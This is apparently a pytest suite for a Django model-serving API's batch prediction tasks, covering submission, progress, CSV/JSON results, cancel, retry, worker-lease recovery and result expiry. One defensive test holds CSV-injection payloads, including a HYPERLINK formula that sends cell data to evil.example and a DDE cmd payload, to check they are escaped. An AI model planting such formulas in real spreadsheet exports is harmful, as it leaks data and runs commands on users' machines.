"""Queued tasks through the API: submit (202), status, progress, result as JSON and CSV, cancel, retry."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from deployments import batch, delivery, services, task_files
from deployments.models import PredictionTask
from tests.model_files import IRIS_ROW, iris_frame

HEADER = "sepal_length,sepal_width,petal_length,petal_width"


def csv_file(rows: int, extra_id: bool = True) -> io.BytesIO:
    X, _ = iris_frame()
    frame = X.sample(n=rows, replace=True, random_state=1).reset_index(drop=True)
    if extra_id:
        frame.insert(0, "id", range(rows))
    data = io.BytesIO(frame.to_csv(index=False).encode())
    data.name = "rows.csv"
    return data


def test_submit_answers_202_with_urls_at_once(api, iris, settings):
    response = api.post("/api/v1/deployments/iris/tasks", {"inputs": [IRIS_ROW] * 3}, format="json")
    assert response.status_code == 202
    body = response.json()
    assert set(body) == {"task_id", "status", "status_url", "result_url"}
    assert body["status"] == "queued"
    assert response["Location"] == body["status_url"] == f"http://testserver/api/v1/tasks/{body['task_id']}"
    task = PredictionTask.objects.get()
    assert task.rows_total == 3 and task.rows_done == 0
    assert task_files.input_path(task).exists()


def test_a_json_task_runs_and_gives_its_result(api, iris, submit):
    body = submit("iris", json={"inputs": [IRIS_ROW, {**IRIS_ROW, "petal_length": 5.0, "petal_width": 1.9}]}).json()
    status = api.get(body["status_url"]).json()
    assert status["status"] == "succeeded"
    assert status["progress"] == {"rows_done": 2, "rows_total": 2, "fraction": 1.0}
    assert status["attempts"] == 1 and status["error"] == ""
    assert status["started"] and status["finished"] and status["duration_seconds"] >= 0
    result = api.get(body["result_url"])
    assert result.status_code == 200
    data = b"".join(result.streaming_content)
    import json

    parsed = json.loads(data)
    assert parsed["predictions"] == [0, 2]
    assert parsed["model"] == "iris-model" and parsed["version"] == 1 and parsed["rows"] == 2
    assert len(parsed["probabilities"]) == 2 and set(parsed["probabilities"][0]) == {"0", "1", "2"}


def test_a_csv_task_streams_in_chunks_and_answers_csv(api, iris, submit, settings):
    settings.MLSERVE_BATCH_CHUNK_ROWS = 7  # several chunks
    body = submit("iris", file=csv_file(50)).json()
    task = PredictionTask.objects.get()
    assert task.status == "succeeded" and task.rows_done == 50 == task.rows_total
    response = api.get(body["result_url"] + "?format=csv")
    assert response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["id", *HEADER.split(","), "prediction", "probability(0)", "probability(1)", "probability(2)"]
    assert len(rows) == 51
    assert [r[0] for r in rows[1:]] == [str(i) for i in range(50)]
    direct = api.post("/api/v1/deployments/iris/predict", csv_file(50).getvalue(), content_type="text/csv").json()
    assert [int(r[5]) for r in rows[1:]] == direct["predictions"]


def test_the_deployment_and_user_task_lists(api, iris, submit):
    submit("iris", json={"inputs": [IRIS_ROW]})
    listed = api.get("/api/v1/deployments/iris/tasks").json()
    assert listed["count"] == 1 and listed["results"][0]["status"] == "succeeded"
    assert api.get("/api/v1/tasks?status=succeeded&deployment=iris").json()["count"] == 1
    assert api.get("/api/v1/tasks?status=failed").json()["count"] == 0


def test_a_bad_file_is_refused_at_submit_and_leaves_nothing(api, iris, isolated_data_dir):
    data = io.BytesIO(b"sepal_length,sepal_width\n1,2\n")
    data.name = "bad.csv"
    response = api.post("/api/v1/deployments/iris/tasks", {"file": data}, format="multipart")
    assert response.status_code == 400
    assert "missing column(s) petal_length, petal_width" in response.json()["error"]["message"]
    assert not PredictionTask.objects.exists()
    assert not list((isolated_data_dir / "tasks").glob("*")) if (isolated_data_dir / "tasks").exists() else True


def test_a_file_over_the_batch_limit_is_413(api, deploy):
    deploy("iris_logreg.skops", "tiny", max_batch_file_size=100)
    response = api.post("/api/v1/deployments/tiny/tasks", {"file": csv_file(20)}, format="multipart")
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "file_too_large"
    assert not PredictionTask.objects.exists()


def test_an_error_deep_in_the_file_fails_the_task_with_the_row(api, iris, submit, settings):
    settings.MLSERVE_BATCH_CHUNK_ROWS = 10
    lines = [HEADER] + ["5.1,3.5,1.4,0.2"] * 150 + ["5.1,3.5,1.4,oops"]
    data = io.BytesIO("\n".join(lines).encode())
    data.name = "rows.csv"
    body = submit("iris", file=data).json()
    status = api.get(body["status_url"]).json()
    assert status["status"] == "failed"
    assert "row 150" in status["error"] and "petal_width" in status["error"]
    response = api.get(body["result_url"])
    assert response.status_code == 409 and response.json()["error"]["code"] == "result_not_ready"


def test_cancel_a_queued_task_then_retry_it(api, iris, inline_queue, django_capture_on_commit_callbacks):
    body = api.post("/api/v1/deployments/iris/tasks", {"inputs": [IRIS_ROW]}, format="json").json()
    cancelled = api.delete(body["status_url"])
    assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled"
    assert batch.run(body["task_id"]) == "skipped (cancelled)"
    assert api.delete(body["status_url"]).status_code == 204  # finished: deleted
    assert not PredictionTask.objects.exists()


def test_retry_a_failed_task(api, iris, submit, django_capture_on_commit_callbacks):
    body = submit("iris", json={"inputs": [IRIS_ROW]}).json()
    task = PredictionTask.objects.get()
    PredictionTask.objects.filter(pk=task.pk).update(status="failed", error="boom")
    with django_capture_on_commit_callbacks(execute=True):
        response = api.post(f"/api/v1/tasks/{task.id}/retry")
    assert response.status_code == 202
    assert api.get(body["status_url"]).json()["status"] == "succeeded"
    assert api.post(f"/api/v1/tasks/{task.id}/retry").status_code == 409


def test_cancelling_a_running_task_stops_it_between_chunks(api, iris, settings):
    settings.MLSERVE_BATCH_CHUNK_ROWS = 5
    task = services.task_submit(deployment=iris_deployment(), upload=csv_file(40))
    original = batch.prediction.run
    calls = []

    def cancel_after_first_chunk(version, parsed):
        calls.append(1)
        if len(calls) == 2:
            services.task_cancel(task=PredictionTask.objects.get(pk=task.pk))
        return original(version, parsed)

    batch.prediction.run = cancel_after_first_chunk
    try:
        assert batch.run(task.id) == "stopped (cancelled)"
    finally:
        batch.prediction.run = original
    task.refresh_from_db()
    assert task.status == "cancelled" and task.rows_done <= 10
    assert not task_files.result_csv(task).exists()


def iris_deployment():
    from deployments.models import Deployment

    return Deployment.objects.get(name="iris")


def test_a_paused_deployment_keeps_tasks_queued_until_it_starts(api, iris, inline_queue, django_capture_on_commit_callbacks):
    body = api.post("/api/v1/deployments/iris/tasks", {"inputs": [IRIS_ROW]}, format="json").json()
    api.post("/api/v1/deployments/iris/pause")
    assert batch.run(body["task_id"]) == "waiting (deployment paused)"
    assert api.get(body["status_url"]).json()["status"] == "queued"
    with django_capture_on_commit_callbacks(execute=True):
        api.post("/api/v1/deployments/iris/start")
    assert api.get(body["status_url"]).json()["status"] == "succeeded"


def test_a_task_whose_lease_expired_is_queued_again_then_given_up(api, iris, settings, inline_queue):
    task = services.task_submit(deployment=iris_deployment(), data={"inputs": [IRIS_ROW]})
    expired = timezone.now() - timedelta(seconds=1)
    PredictionTask.objects.filter(pk=task.pk).update(status="running", lease_owner="gone:1", lease_expires=expired, attempts=1)
    result = services.tasks_recover()
    assert result["requeued"] == [task.id]
    task.refresh_from_db()
    assert task.status == "succeeded" and task.notice == "worker lost, attempt 2"  # the inline queue ran it again
    PredictionTask.objects.filter(pk=task.pk).update(
        status="running", lease_expires=expired, attempts=settings.MLSERVE_TASK_MAX_ATTEMPTS
    )
    assert services.tasks_recover()["failed"] == [task.id]
    task.refresh_from_db()
    assert task.status == "failed" and "stopped 3 times" in task.error


def test_a_running_task_without_a_lease_is_recovered_after_the_stall_time(api, iris, settings):
    task = services.task_submit(deployment=iris_deployment(), data={"inputs": [IRIS_ROW]})
    old = timezone.now() - timedelta(seconds=settings.MLSERVE_TASK_STALL_SECONDS + 10)
    PredictionTask.objects.filter(pk=task.pk).update(status="running", heartbeat=old, attempts=1)
    assert services.tasks_recover()["requeued"] == [task.id]


def test_a_queued_task_whose_message_was_taken_by_a_dead_worker_is_sent_again(api, iris, settings):
    task = services.task_submit(deployment=iris_deployment(), data={"inputs": [IRIS_ROW]})
    delivery.broker().delete_queue()  # what a worker that prefetched it and died leaves behind: nothing waiting
    PredictionTask.objects.filter(pk=task.pk).update(enqueued=timezone.now() - timedelta(seconds=settings.MLSERVE_TASK_LEASE_SECONDS + 1))
    assert services.tasks_recover()["resent"] == [task.id]
    assert services.tasks_recover()["resent"] == []  # its new message waits: nothing more is sent


def test_a_running_task_with_a_live_lease_cannot_be_retried_but_a_lost_one_can(api, iris):
    task = services.task_submit(deployment=iris_deployment(), data={"inputs": [IRIS_ROW]})
    PredictionTask.objects.filter(pk=task.pk).update(
        status="running", attempts=1, lease_owner="w:1", lease_expires=timezone.now() + timedelta(seconds=60)
    )
    response = api.post(f"/api/v1/tasks/{task.id}/retry")
    assert response.status_code == 409 and response.json()["error"]["code"] == "task_not_retryable"
    PredictionTask.objects.filter(pk=task.pk).update(lease_expires=timezone.now() - timedelta(seconds=1))
    response = api.post(f"/api/v1/tasks/{task.id}/retry")
    assert response.status_code == 202, response.content
    assert response.json()["status"] == "queued" and response.json()["notice"] == "retried by the user, attempt 2"


def test_results_expire_after_the_retention_time(api, iris, submit, settings):
    body = submit("iris", json={"inputs": [IRIS_ROW]}).json()
    PredictionTask.objects.update(finished=timezone.now() - timedelta(hours=settings.MLSERVE_RESULT_RETENTION_HOURS + 1))
    assert services.tasks_expire_results() == 1
    task = PredictionTask.objects.get()
    assert task.result_expired and not task_files.task_dir(task.id).exists()
    response = api.get(body["result_url"])
    assert response.status_code == 410 and response.json()["error"]["code"] == "result_expired"


@pytest.mark.parametrize("suffix", ["", "/result"])
def test_someone_elses_task_is_404(stranger_api, api, iris, suffix):
    body = api.post("/api/v1/deployments/iris/tasks", {"inputs": [IRIS_ROW]}, format="json").json()
    assert stranger_api.get(body["status_url"] + suffix).status_code == 404
    assert stranger_api.delete(body["status_url"]).status_code == 404
    assert stranger_api.get("/api/v1/tasks/not-a-uuid").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]


def test_a_csv_result_opens_formula_cells_as_text(api, iris, submit):
    """CSV injection: a partner's input cells come back in the owner's spreadsheet as text, numbers as numbers."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(["id", "=evil()", "note", *HEADER.split(",")])
    writer.writerows([-i - 1, "x", formula, 5.1, 3.5, 1.4, 0.2] for i, formula in enumerate(FORMULAS))
    data = io.BytesIO(text.getvalue().encode())
    data.name = "rows.csv"
    submitted = submit("iris", file=data)
    assert submitted.status_code == 202, submitted.json()
    response = api.get(submitted.json()["result_url"] + "?format=csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert rows[0][:3] == ["id", "'=evil()", "note"]
    assert [r[2] for r in rows[1:]] == ["'" + text for text in FORMULAS]
    assert [r[0] for r in rows[1:]] == [str(-i - 1) for i in range(len(FORMULAS))]  # negative numbers untouched
    assert [r[3] for r in rows[1:]] == ["5.1"] * len(FORMULAS)
    assert all(r[4 + 3] == "0" for r in rows[1:])  # the prediction column, a number


def test_text_cells_that_are_plain_numbers_stay_numbers():
    import pandas as pd

    table = pd.DataFrame({"as_text": pd.Series(["-1.5", "+2", "-3e-4", "-", "=1+1"], dtype="str"), "number": [-1.5, 2, 3, 4, 5]})
    out = io.BytesIO()
    batch._write_csv(table, out, header=True)
    rows = list(csv.reader(io.StringIO(out.getvalue().decode())))
    assert [r[0] for r in rows[1:]] == ["-1.5", "+2", "-3e-4", "'-", "'=1+1"]
    assert [r[1] for r in rows[1:]] == ["-1.5", "2", "3", "4", "5"]


def test_a_queued_task_is_retried_only_once_its_message_is_lost(api, iris, settings):
    task = services.task_submit(deployment=iris_deployment(), data={"inputs": [IRIS_ROW]})
    assert api.post(f"/api/v1/tasks/{task.id}/retry").status_code == 409  # its message waits in the queue
    delivery.broker().delete_queue()
    PredictionTask.objects.filter(pk=task.pk).update(enqueued=timezone.now() - timedelta(seconds=settings.MLSERVE_TASK_LEASE_SECONDS + 1))
    assert api.post(f"/api/v1/tasks/{task.id}/retry").status_code == 202
    assert delivery.broker().queue_size() == 1
